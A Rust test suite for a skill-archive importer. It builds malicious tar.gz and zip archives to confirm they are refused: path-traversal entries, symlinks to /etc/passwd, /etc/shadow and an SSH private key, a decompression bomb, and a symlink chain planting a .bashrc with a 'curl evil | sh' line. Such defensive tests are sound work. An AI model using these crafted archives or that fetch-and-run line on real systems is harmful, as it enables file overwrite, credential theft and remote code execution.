use std::io::Write;

use super::*;

const SKILL: &str =
    "---\nname: pdf-forms\ndescription: Fill PDF forms.\n---\nRun scripts/fill.py.\n";

fn tar_gz(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut builder = tar::Builder::new(gz);
    for (path, content) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        header.set_entry_type(tar::EntryType::Regular);
        raw_path(&mut header, path);
        builder.append(&header, *content).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

/// Writes the name into the header as is (`set_path` refuses `..`, which is the point).
fn raw_path(header: &mut tar::Header, path: &str) {
    let name = &mut header.as_old_mut().name;
    name.fill(0);
    name[..path.len()].copy_from_slice(path.as_bytes());
    header.set_cksum();
}

fn tar_gz_with_link(link: &str, target: &str) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut builder = tar::Builder::new(gz);
    let mut header = tar::Header::new_gnu();
    header.set_size(SKILL.len() as u64);
    header.set_mode(0o644);
    raw_path(&mut header, "pdf-forms/SKILL.md");
    builder.append(&header, SKILL.as_bytes()).unwrap();
    let mut link_header = tar::Header::new_gnu();
    link_header.set_entry_type(tar::EntryType::Symlink);
    link_header.set_size(0);
    builder.append_link(&mut link_header, link, target).unwrap();
    builder.into_inner().unwrap().finish().unwrap()
}

fn zip(entries: &[(&str, &str)], links: &[(&str, &str)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for (name, content) in entries {
        w.start_file(*name, options).unwrap();
        w.write_all(content.as_bytes()).unwrap();
    }
    for (name, target) in links {
        w.add_symlink(*name, *target, options).unwrap();
    }
    w.finish().unwrap().into_inner()
}

struct Dirs {
    _tmp: tempfile::TempDir,
    skills: PathBuf,
    work: PathBuf,
}

fn dirs() -> Dirs {
    let tmp = tempfile::tempdir().unwrap();
    let skills = tmp.path().join("home/skills");
    let work = tmp.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    Dirs {
        skills,
        work,
        _tmp: tmp,
    }
}

fn write(d: &Dirs, name: &str, bytes: &[u8]) -> PathBuf {
    let p = d.work.join(name);
    std::fs::write(&p, bytes).unwrap();
    p
}

/// Nothing of a refused import is left: no skill, no staging folder.
fn assert_nothing_installed(d: &Dirs) {
    let left: Vec<_> = std::fs::read_dir(&d.skills)
        .map(|e| e.filter_map(Result::ok).map(|e| e.file_name()).collect())
        .unwrap_or_default();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn a_tar_gz_with_one_skill_folder_is_installed_under_its_name() {
    let d = dirs();
    let archive = write(
        &d,
        "pdf.tar.gz",
        &tar_gz(&[
            ("pdf-forms/SKILL.md", SKILL.as_bytes()),
            ("pdf-forms/scripts/fill.py", b"print('ok')\n"),
        ]),
    );
    assert_eq!(import(&archive, &d.skills, false).unwrap(), ["pdf-forms"]);
    assert!(d.skills.join("pdf-forms/scripts/fill.py").is_file());
    let again = import(&archive, &d.skills, false).unwrap_err().to_string();
    assert!(
        again.contains("already installed") && again.contains("--force"),
        "{again}"
    );
    assert_eq!(import(&archive, &d.skills, true).unwrap(), ["pdf-forms"]);
    let names: Vec<_> = std::fs::read_dir(&d.skills)
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name())
        .collect();
    assert_eq!(names, ["pdf-forms"], "no staging left behind");
}

#[test]
fn a_zip_pack_of_several_skills_inside_a_wrapping_folder() {
    let d = dirs();
    let other = "---\nname: csv-tools\ndescription: Clean CSV files.\n---\nbody\n";
    let archive = write(
        &d,
        "pack.zip",
        &zip(
            &[
                ("pack-main/pdf-forms/SKILL.md", SKILL),
                ("pack-main/csv-tools/SKILL.md", other),
                ("pack-main/csv-tools/references/format.md", "# CSV\n"),
                ("pack-main/README.md", "a pack\n"),
            ],
            &[("pack-main/csv-tools/ref", "references/format.md")],
        ),
    );
    let mut names = import(&archive, &d.skills, false).unwrap();
    names.sort();
    assert_eq!(names, ["csv-tools", "pdf-forms"]);
    let link = std::fs::read_link(d.skills.join("csv-tools/ref")).unwrap();
    assert_eq!(
        link,
        PathBuf::from("references/format.md"),
        "a link inside the skill is kept"
    );
}

#[test]
fn entries_that_leave_the_skill_refuse_the_whole_import() {
    let d = dirs();
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "dotdot.tar.gz",
            tar_gz(&[
                ("pdf-forms/SKILL.md", SKILL.as_bytes()),
                ("pdf-forms/../../evil", b"x"),
            ]),
            "has a `..` component",
        ),
        (
            "absolute.tar.gz",
            tar_gz(&[
                ("pdf-forms/SKILL.md", SKILL.as_bytes()),
                ("/tmp/evil", b"x"),
            ]),
            "is an absolute path",
        ),
        (
            "link.tar.gz",
            tar_gz_with_link("pdf-forms/passwd", "/etc/passwd"),
            "points outside the skill",
        ),
        (
            "uplink.tar.gz",
            tar_gz_with_link("pdf-forms/up", "../../secret"),
            "points outside the skill",
        ),
        (
            "dotdot.zip",
            zip(&[("pdf-forms/SKILL.md", SKILL), ("../evil.txt", "x")], &[]),
            "has a `..` component",
        ),
        (
            "link.zip",
            zip(
                &[("pdf-forms/SKILL.md", SKILL)],
                &[("pdf-forms/key", "/home/user/.ssh/id_rsa")],
            ),
            "points outside the skill",
        ),
    ];
    for (name, bytes, expected) in cases {
        let archive = write(&d, name, &bytes);
        let e = import(&archive, &d.skills, false).unwrap_err().to_string();
        assert!(
            e.contains(expected) && e.starts_with("refusing "),
            "{name}: {e}"
        );
        assert_nothing_installed(&d);
    }
    assert!(!d.work.join("evil.txt").exists() && !Path::new("/tmp/evil").exists());
}

#[test]
fn a_folder_with_a_link_out_is_refused_and_a_broken_skill_is_named() {
    let d = dirs();
    let src = d.work.join("pdf-forms");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join("SKILL.md"), SKILL).unwrap();
    std::os::unix::fs::symlink("/etc/shadow", src.join("shadow")).unwrap();
    let e = import(&src, &d.skills, false).unwrap_err().to_string();
    assert!(e.contains("points outside the skill"), "{e}");
    std::fs::remove_file(src.join("shadow")).unwrap();
    assert_eq!(import(&src, &d.skills, false).unwrap(), ["pdf-forms"]);

    let broken = write(
        &d,
        "broken.zip",
        &zip(&[("x/SKILL.md", "---\nname: x\n---\n")], &[]),
    );
    let e = import(&broken, &d.skills, false).unwrap_err().to_string();
    assert!(e.contains("`description` is required"), "{e}");
    let empty = write(&d, "empty.zip", &zip(&[("README.md", "no skill")], &[]));
    assert!(
        import(&empty, &d.skills, false)
            .unwrap_err()
            .to_string()
            .contains("no SKILL.md found")
    );
    let other = write(&d, "notes.txt", b"text");
    assert!(
        import(&other, &d.skills, false)
            .unwrap_err()
            .to_string()
            .contains("neither a folder nor")
    );
}

#[test]
fn an_archive_that_unpacks_too_large_is_refused_by_what_it_writes() {
    let d = dirs();
    let big = vec![b'a'; (MAX_BYTES + 1) as usize];
    let archive = write(
        &d,
        "bomb.tar.gz",
        &tar_gz(&[
            ("pdf-forms/SKILL.md", SKILL.as_bytes()),
            ("pdf-forms/big", &big),
        ]),
    );
    assert!(
        std::fs::metadata(&archive).unwrap().len() < 1024 * 1024,
        "it compresses well"
    );
    let e = import(&archive, &d.skills, false).unwrap_err().to_string();
    assert!(e.contains("over 64 MiB"), "{e}");
    assert_nothing_installed(&d);
}

/// An entry of [`tar_gz_mixed`]: a file's bytes, or a link's target.
type Item<'a> = (&'a str, Result<&'a [u8], &'a str>);

/// A tar of files and links in the given order (links as `(path, target)`, files as
/// `(path, content)`), names written raw.
fn tar_gz_mixed(items: &[Item<'_>]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut builder = tar::Builder::new(gz);
    for (path, item) in items {
        let mut header = tar::Header::new_gnu();
        match item {
            Ok(content) => {
                header.set_size(content.len() as u64);
                header.set_mode(0o644);
                raw_path(&mut header, path);
                builder.append(&header, *content).unwrap();
            }
            Err(target) => {
                header.set_entry_type(tar::EntryType::Symlink);
                header.set_size(0);
                raw_path(&mut header, path);
                header.set_link_name(target).unwrap();
                header.set_cksum();
                builder.append(&header, std::io::empty()).unwrap();
            }
        }
    }
    builder.into_inner().unwrap().finish().unwrap()
}

/// Each link stays inside the archive on its own, but together they lead out: the file
/// after them would land in the user's home if it were written through them.
#[test]
fn a_chain_of_links_cannot_carry_a_write_out_of_the_staging_folder() {
    let d = dirs();
    let archive = write(
        &d,
        "chain.tar.gz",
        &tar_gz_mixed(&[
            ("pdf-forms/SKILL.md", Ok(SKILL.as_bytes())),
            ("a", Err(".")),
            ("a/b", Err("..")),
            ("b/c", Err("..")),
            ("b/c/d", Err("..")),
            ("b/c/d/e/.bashrc", Ok(b"curl evil | sh\n")),
        ]),
    );
    let e = import(&archive, &d.skills, false).unwrap_err().to_string();
    assert!(e.starts_with("refusing "), "{e}");
    let home = d.skills.parent().unwrap();
    assert!(!home.join(".bashrc").exists() && !home.join("e").exists());
    assert!(!home.parent().unwrap().join("e/.bashrc").exists());
    assert_nothing_installed(&d);
}

#[test]
fn links_that_leave_their_skill_through_a_wrapper_or_into_another_skill_are_refused() {
    let d = dirs();
    let other = "---\nname: csv-tools\ndescription: Clean CSV files.\n---\nbody\n";
    let cases: [(&str, Vec<Item<'_>>); 3] = [
        (
            "wrapper.tar.gz",
            vec![
                ("w/pdf-forms/SKILL.md", Ok(SKILL.as_bytes())),
                ("w/pdf-forms/cfg", Err("../../config.json")),
            ],
        ),
        (
            "across.tar.gz",
            vec![
                ("pdf-forms/SKILL.md", Ok(SKILL.as_bytes())),
                ("csv-tools/SKILL.md", Ok(other.as_bytes())),
                ("pdf-forms/x", Err("../csv-tools/SKILL.md")),
            ],
        ),
        (
            "dangling.tar.gz",
            vec![
                ("pdf-forms/SKILL.md", Ok(SKILL.as_bytes())),
                ("pdf-forms/gone", Err("nothing-here")),
            ],
        ),
    ];
    for (name, items) in cases {
        let archive = write(&d, name, &tar_gz_mixed(&items));
        let e = import(&archive, &d.skills, false).unwrap_err().to_string();
        assert!(
            e.contains("points outside the skill or to nothing"),
            "{name}: {e}"
        );
        assert_nothing_installed(&d);
    }
    let twice = write(
        &d,
        "twice.tar.gz",
        &tar_gz(&[
            ("pdf-forms/SKILL.md", SKILL.as_bytes()),
            ("pdf-forms/SKILL.md", b"---\nname: x\n---\n"),
        ]),
    );
    assert!(
        import(&twice, &d.skills, false)
            .unwrap_err()
            .to_string()
            .contains("appears twice")
    );
}
